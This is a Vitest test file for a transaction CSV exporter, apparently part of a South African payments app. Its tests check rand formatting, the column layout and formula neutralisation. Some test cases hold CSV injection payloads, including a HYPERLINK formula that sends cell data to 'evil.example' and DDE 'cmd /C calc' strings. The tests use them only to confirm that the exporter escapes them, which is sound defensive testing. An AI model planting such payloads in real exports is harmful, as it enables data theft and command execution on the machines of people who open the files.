import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import type { Transaction } from "../../protocol/wire";
import { buildTransactionsCsv, centsToRand, CSV_COLUMNS, exportFileName, type CsvLabels } from "./csv";
import { sampleTransaction } from "../../live/testing";

const labels: CsvLabels = {
  header: Object.fromEntries(CSV_COLUMNS.map((column) => [column, column])) as CsvLabels["header"],
  status: (status) => `status:${status}`,
  method: (method) => `method:${method}`,
  bank: (bank) => `bank:${bank}`,
};

function parse(csv: string): string[][] {
  return Papa.parse<string[]>(csv.trim(), { skipEmptyLines: true }).data;
}

describe("centsToRand", () => {
  it("writes two decimals without floating point", () => {
    expect(centsToRand(0)).toBe("0.00");
    expect(centsToRand(5)).toBe("0.05");
    expect(centsToRand(123450)).toBe("1234.50");
    expect(centsToRand(900719925474099)).toBe("9007199254740.99");
  });
});

describe("buildTransactionsCsv", () => {
  it("has the header and one row per transaction, in column order", () => {
    const csv = buildTransactionsCsv([sampleTransaction({ unpaidCode: "02", status: "unpaid" })], labels);
    const [header, row] = parse(csv);
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(row).toEqual([
      "txn_1",
      "2026-03-02",
      "status:unpaid",
      "02",
      "499.99",
      "9.00",
      "490.99",
      "2026-03-03",
      "method:debicheck",
      "Thandi Nkosi",
      "GYM-0001",
      "bank:capitec",
      "6789",
      "1",
    ]);
  });

  it("gives the fee, the net and the day the bank paid, for reconciliation; an unpaid debit has no paid day", () => {
    const [, paid] = parse(buildTransactionsCsv([sampleTransaction()], labels));
    expect(paid.slice(4, 8)).toEqual(["499.99", "9.00", "490.99", "2026-03-03"]);
    const unpaid = sampleTransaction({ status: "unpaid", history: [{ status: "pending", date: "2026-03-02" }, { status: "unpaid", date: "2026-03-04", unpaidCode: "02" }] });
    expect(parse(buildTransactionsCsv([unpaid], labels))[1][7]).toBe("");
  });

  it("keeps an unpaid code's leading zero and an empty code empty", () => {
    const [, paid] = parse(buildTransactionsCsv([sampleTransaction()], labels));
    expect(paid[3]).toBe("");
  });

  const hostile: [string, string][] = [
    ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"],
    ["+27 82 123 4567", "'+27 82 123 4567"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["=1+1\nsecond line", "'=1+1\nsecond line"],
  ];

  it.each(hostile)("neutralises a formula in a customer name: %j", (name, expected) => {
    const csv = buildTransactionsCsv([sampleTransaction({ customerName: name })], labels);
    const [, row] = parse(csv);
    expect(row[9]).toBe(expected);
    // Quoted, so the apostrophe is part of the text.
    expect(csv).toContain(`"'`);
  });

  it("neutralises formulae in every text column, not only the name", () => {
    const transaction: Transaction = sampleTransaction({ reference: "=cmd|'/C calc'!A0", accountLastDigits: "+1" });
    const [, row] = parse(buildTransactionsCsv([transaction], labels));
    expect(row[10]).toBe("'=cmd|'/C calc'!A0");
    expect(row[12]).toBe("'+1");
  });

  it("reads back as what the user should see, with a negative amount still a number", () => {
    const names = ['=HYPERLINK("http://x","y")', "+1+1", "@SUM(A1)", "-2+3", "\tcmd", "-12.50"];
    const csv = buildTransactionsCsv(
      names.map((customerName, index) => sampleTransaction({ id: `txn_${index}`, customerName, amountCents: -1250 })),
      labels,
    );
    const [, ...rows] = parse(csv);
    expect(rows.map((row) => row[9])).toEqual([
      `'=HYPERLINK("http://x","y")`,
      "'+1+1",
      "'@SUM(A1)",
      "'-2+3",
      "'\tcmd",
      "-12.50",
    ]);
    expect(rows.map((row) => row[4])).toEqual(names.map(() => "-12.50"));
    expect(csv).toContain("\r\ntxn_0,2026-03-02,status:paid,,-12.50,9.00,490.99,2026-03-03,");
  });

  it("leaves ordinary names, commas and quotes readable", () => {
    const [, row] = parse(buildTransactionsCsv([sampleTransaction({ customerName: 'Nkosi, "T" & Sons' })], labels));
    expect(row[9]).toBe('Nkosi, "T" & Sons');
  });
});

describe("exportFileName", () => {
  it("is dated by the local calendar day", () => {
    expect(exportFileName(new Date(2026, 2, 9, 23, 59))).toBe("transactions-2026-03-09.csv");
  });
});
